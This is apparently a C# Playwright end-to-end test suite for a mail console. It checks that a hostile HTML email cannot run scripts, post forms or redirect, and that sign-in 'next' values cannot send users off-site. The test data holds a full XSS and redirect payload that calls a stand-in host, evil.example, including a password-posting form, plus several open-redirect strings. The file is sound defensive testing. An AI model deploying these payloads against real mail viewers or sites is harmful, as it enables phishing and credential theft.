using System.Collections.Concurrent;
using System.Text.RegularExpressions;
using Mail.Tests.EndToEnd;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace Mail.Tests.Web.Console;

/// <summary>What others have written, in a real browser: a mail that wants to act, and an address that wants to lead away.</summary>
[Collection(SharedMailTests.Name)]
[Trait("Category", "E2E")]
public sealed class HostileContentTests(SharedMail shared, Browser browser) : IClassFixture<Browser>
{
    private const string Evil = "evil.example";

    /// <summary>Each of these acts by itself, or with one click, wherever a mail is shown as a page.</summary>
    private const string Hostile = """
        <html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/base/" target="_top">
        <script>document.title='taken';top.location='https://evil.example/script';fetch('https://evil.example/fetch')</script><script src="https://evil.example/script.js"></script></head>
        <body onload="location='https://evil.example/onload'"><p>Hello</p>
        <img src="https://pictures.example/a.png" onerror="location='https://evil.example/onerror'"><svg onload="location='https://evil.example/svg'"></svg>
        <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
        <iframe srcdoc="&lt;script&gt;top.location='https://evil.example/srcdoc'&lt;/script&gt;"></iframe>
        <form action="https://evil.example/form" method="post" target="_top"><input name="password" value="x" autofocus><button>Sign in</button></form>
        <a href="https://evil.example/link" target="_top">Read on</a></body></html>
        """;

    [Fact]
    public async Task A_mail_runs_nothing_sends_no_form_and_leads_nowhere_in_the_console_and_alone()
    {
        string id = await shared.Mail.SendAsync(new Dictionary<string, object?> { ["from"] = "Bakery <hello@example.com>", ["to"] = $"{Guid.NewGuid():n}@example.net", ["subject"] = "Hello", ["html"] = Hostile });
        await using BrowserWindow window = await SignInAsync($"/messages/{id}");
        IPage page = window.Page;
        ConcurrentQueue<IRequest> asked = [];
        page.Request += (_, request) => asked.Enqueue(request);

        IFrameLocator frame = page.FrameLocator("iframe");
        await Expect(frame.GetByText("Hello")).ToBeVisibleAsync();
        await frame.GetByRole(AriaRole.Button, new() { Name = "Sign in" }).ClickAsync();
        await frame.GetByText("Read on").ClickAsync();
        await page.WaitForTimeoutAsync(500);
        Assert.StartsWith(new Uri(shared.Mail.ConsoleUrl, "/messages/").ToString(), page.Url, StringComparison.Ordinal);

        await page.GotoAsync($"/api/emails/{id}/html"); // as "open alone" does
        await Expect(page.GetByText("Hello")).ToBeVisibleAsync();
        await page.GetByRole(AriaRole.Button, new() { Name = "Sign in" }).ClickAsync();
        await page.WaitForTimeoutAsync(500);
        Assert.Equal((new Uri(shared.Mail.ConsoleUrl, $"/api/emails/{id}/html").ToString(), ""), (page.Url, await page.TitleAsync()));
        Assert.DoesNotContain(asked, request => new Uri(request.Url).Host == Evil && request.ResourceType != "document");
        Assert.All(asked.Where(request => new Uri(request.Url).Host == "pictures.example"), request => Assert.Equal("", request.Headers.GetValueOrDefault("referer", "")));
    }

    [Theory]
    [InlineData("//evil.example/")]
    [InlineData("/\\evil.example")]
    [InlineData("/\t/evil.example")]
    [InlineData("https://evil.example/")]
    [InlineData("javascript:document.title='taken'")]
    public async Task Signing_in_leads_to_no_other_site(string next)
    {
        await using BrowserWindow window = await SignInAsync($"/sign-in?next={Uri.EscapeDataString(next)}");

        await Expect(window.Page).Not.ToHaveURLAsync(new Regex("/sign-in"));
        await Expect(window.Page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToBeVisibleAsync();
        await window.Page.WaitForTimeoutAsync(300);
        Assert.Equal(shared.Mail.ConsoleUrl.Authority, new Uri(window.Page.Url).Authority);
        Assert.NotEqual("taken", await window.Page.TitleAsync());
    }

    private async Task<BrowserWindow> SignInAsync(string path)
    {
        BrowserWindow window = await browser.OpenAsync(shared.Mail.ConsoleUrl);
        await window.Page.GotoAsync(path);
        await window.Page.GetByLabel("Email address").FillAsync(RunningMail.AdminEmail);
        await window.Page.GetByLabel("Password", new() { Exact = true }).FillAsync(RunningMail.AdminPassword);
        await window.Page.GetByRole(AriaRole.Button, new() { Name = "Sign in" }).ClickAsync();
        return window;
    }
}
